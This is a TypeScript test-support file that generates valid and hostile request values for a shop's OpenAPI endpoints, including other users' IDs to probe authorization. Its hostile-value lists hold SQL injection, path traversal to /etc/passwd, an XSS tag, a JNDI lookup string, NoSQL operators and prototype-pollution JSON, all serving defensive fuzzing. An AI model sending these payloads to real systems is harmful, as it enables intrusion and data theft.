import fc from 'fast-check';
import type { JsonSchema } from '#server/openapi/document.ts';
import { anyCodePoint } from '#tests/support/random/code-point.ts';

/** Values for a schema of the OpenAPI document: valid ones, and ones that it must refuse. */

/** Kinds of values that exist only in the running shop. */
export type RefKind =
  | 'user'
  | 'cart'
  | 'address'
  | 'ticket'
  | 'checkout'
  | 'order'
  | 'code'
  /** An order that has codes. */
  | 'codeOrder'
  | 'prompt'
  | 'phone'
  /** For a registration: a number with or without an account. The holder of a phone may take over its account. */
  | 'newPhone'
  | 'password'
  | 'resetCode'
  | 'email'
  | 'text'
  | 'publicText'
  | 'product'
  | 'variant'
  | 'article'
  | 'item'
  | 'paybill'
  | 'billAccount'
  | 'billAmount';

const sources = ['own', 'other', 'unknown', 'malformed'] as const;
export type ValueSource = (typeof sources)[number];

/**
 * A placeholder for a value of the running shop, resolved when the request is made: the actor's own, another's, unknown
 * or malformed.
 */
export class Ref {
  readonly kind: RefKind;
  readonly source: ValueSource;
  /** Selects one of several values. */
  readonly pick: number;
  constructor(kind: RefKind, from: ValueSource, pick: number) {
    this.kind = kind;
    this.source = from;
    this.pick = pick;
  }
}

/** What `{id}` identifies, by the beginning of the path. */
const idsByPath: readonly (readonly [start: string, kind: RefKind])[] = [
  ['/user/', 'user'],
  ['/article/', 'article'],
  ['/product/item/variant/', 'variant'],
  ['/product/', 'product'],
  ['/payment/overlay/', 'cart'],
  ['/handset/', 'prompt'],
];

const byName: Readonly<Record<string, RefKind>> = {
  userID: 'user',
  cartID: 'cart',
  addressID: 'address',
  ticketID: 'ticket',
  variantID: 'variant',
  checkoutRequestID: 'checkout',
  orderID: 'order',
  codeID: 'code',
  phone: 'phone',
  phoneNumber: 'phone',
  msisdn: 'phone',
  password: 'password',
  confirmPassword: 'password',
  currentPassword: 'password',
  code: 'resetCode',
  email: 'email',
  itemID: 'item',
  paybill: 'paybill',
  account: 'billAccount',
  amount: 'billAmount',
  ...Object.fromEntries(
    ['firstName', 'lastName', 'username', 'alias', 'referredBy', 'area', 'street', 'subject', 'issue', 'name'].map(
      (name) => [name, 'text'] as const,
    ),
  ),
};

/** The text and the author of a comment are public. */
const publicFields = new Set(['name', 'author', 'comment']);

function kindOf(path: string, name: string): RefKind | null {
  if (path.endsWith('/comment') && publicFields.has(name)) return 'publicText';
  if (name === 'orderID' && path.includes('/code')) return 'codeOrder';
  if (name === 'text' && path.endsWith('/reply')) return 'text';
  if (name === 'phoneNumber' && path === '/register') return 'newPhone';
  if (name === 'id') return idsByPath.find(([start]) => path.startsWith(start))?.[1] ?? null;
  return byName[name] ?? null;
}

/** Mostly the actor's own values, so that requests succeed; others often enough to find each missing check. */
const anyRef = (kind: RefKind) =>
  fc
    .tuple(
      fc.oneof(
        { weight: 24, arbitrary: fc.constant<ValueSource>('own') },
        { weight: 4, arbitrary: fc.constant<ValueSource>('other') },
        { weight: 2, arbitrary: fc.constant<ValueSource>('unknown') },
        { weight: 1, arbitrary: fc.constant<ValueSource>('malformed') },
      ),
      fc.nat(1_000_000),
    )
    .map(([from, pick]) => new Ref(kind, from, pick));

const isSchema = (value: unknown): value is JsonSchema => typeof value === 'object' && value !== null;
const schemasOf = (value: unknown): readonly JsonSchema[] => (Array.isArray(value) ? value.filter(isSchema) : []);
const numberOr = (value: unknown, otherwise: number) => (typeof value === 'number' ? value : otherwise);

const formats: Readonly<Record<string, fc.Arbitrary<string>>> = { email: fc.emailAddress(), uuid: fc.uuid() };

/** Words with a meaning in some call. */
const words = ['steam', 'Games', 'Consoles', 'PlayStation', 'Steam', 'events', 'guides', 'all', 'products,events'];

/** Texts by their least and greatest length: fast-check takes 10 ms to create an arbitrary of graphemes. */
const texts = new Map<string, fc.Arbitrary<string>>();

function textWithin(least: number, most: number): fc.Arbitrary<string> {
  const known = texts.get(`${least} ${most}`);
  if (known) return known;
  const any = fc.string({ unit: 'grapheme', minLength: least, maxLength: Math.min(most, Math.max(30, least)) });
  const longest = fc.constantFrom('a', 'é', '字').map((character) => character.repeat(most));
  const text = fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...words.filter(({ length }) => length >= least && length <= most), 'a') },
    { weight: 3, arbitrary: any },
    { weight: 1, arbitrary: longest },
  );
  texts.set(`${least} ${most}`, text);
  return text;
}

function textOf({ pattern, format, minLength, maxLength }: JsonSchema): fc.Arbitrary<string> {
  if (typeof pattern === 'string') return fc.stringMatching(new RegExp(pattern));
  const known = typeof format === 'string' ? formats[format] : undefined;
  return known ?? textWithin(numberOr(minLength, 0), numberOr(maxLength, 30));
}

/**
 * Returns values that a schema allows.
 * @param path the path of the call; with the field's `name` it decides which kind of id is used
 */
export function allowed(schema: JsonSchema, path: string, name = ''): fc.Arbitrary<unknown> {
  const kind = kindOf(path, name);
  if (kind !== null) {
    const { anyOf: _, ...plain } = schema;
    const rare = plain.type === 'string' ? [{ weight: 1, arbitrary: textOf(plain) }] : [];
    return fc.oneof({ weight: 9, arbitrary: anyRef(kind) }, ...rare);
  }
  if ('const' in schema) return fc.constant(schema.const);
  // The first value is more frequent because it mostly leads further: an item must be added before it can be removed.
  if (Array.isArray(schema.enum)) return fc.constantFrom(schema.enum[0], ...schema.enum);
  const choices = [...schemasOf(schema.anyOf), ...schemasOf(schema.oneOf)];
  if (choices.length > 0) return fc.oneof(...choices.map((choice) => allowed(choice, path)));
  switch (schema.type) {
    case 'object': {
      const properties = isSchema(schema.properties) ? schema.properties : {};
      const fields = Object.entries(properties).map(
        ([field, inner]) => [field, allowed(isSchema(inner) ? inner : {}, path, field)] as const,
      );
      const requiredKeys = Array.isArray(schema.required) ? schema.required.filter((key) => key in properties) : [];
      return fc.record(Object.fromEntries(fields), { requiredKeys, noNullPrototype: true });
    }
    case 'array':
      return fc.array(allowed(isSchema(schema.items) ? schema.items : {}, path, name), { maxLength: 3 });
    case 'integer':
    case 'number': {
      const [min, max] = [numberOr(schema.minimum, -1000), numberOr(schema.maximum, 1_000_000)];
      return fc.oneof(fc.integer({ min, max: Math.min(max, min + 50) }), fc.integer({ min, max }));
    }
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    default:
      return textOf(schema);
  }
}

const nested = (depth: number): unknown => {
  let inner: unknown = {};
  for (let level = 0; level < depth; level += 1) inner = [inner];
  return inner;
};

/** JSON for a field of any type. Only `JSON.parse` creates own properties with the names of inherited ones. */
const hostileValues: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  1.5,
  1e308,
  Number.MAX_SAFE_INTEGER + 2,
  123_456_789_012_345_680_000,
  '',
  '   ',
  '-1',
  '0x10',
  '1e3',
  'NaN',
  'a\u0000b',
  'a\ud800b',
  'a\u0001\u001b[2Jb',
  '\u202egnihtemos\ufeff',
  '👩‍👩‍👧‍👦 İ ß ﷽',
  'a'.repeat(129),
  'a'.repeat(70_000),
  `'; DROP TABLE users; --`,
  '%_\\',
  '../../../../etc/passwd',
  '<script>alert(1)</script>',
  '$' + '{jndi:ldap://example.invalid/a}',
  [],
  ['a'],
  [[]],
  {},
  { $ne: null },
  nested(2000),
  JSON.parse('{"__proto__":{"admin":true}}'),
  JSON.parse('{"constructor":{"prototype":{"admin":true}}}'),
];
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...hostileValues) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 2 }) },
  { weight: 1, arbitrary: fc.string({ unit: anyCodePoint, maxLength: 20 }) },
);

/** A piece of a path or query that is sent unchanged, correctly encoded or not. */
export class Raw {
  readonly text: string;
  constructor(text: string) {
    this.text = text;
  }
}
export const hostileSegment: fc.Arbitrary<Raw> = fc
  .constantFrom(
    '%00',
    '%ED%A0%80',
    '%E0%A4%A',
    '%',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '..%2F..%2Fetc%2Fpasswd',
    '%2F',
    '%3F',
    '99999999999999999999',
    '-1',
    '0',
    '1.5',
    '1e3',
    '__proto__',
    'constructor',
    `1'%20OR%20'1'%3D'1`,
    '%F0%9F%8E%AE',
    'a'.repeat(5000),
    '%20',
    '{id}',
  )
  .map((text) => new Raw(text));
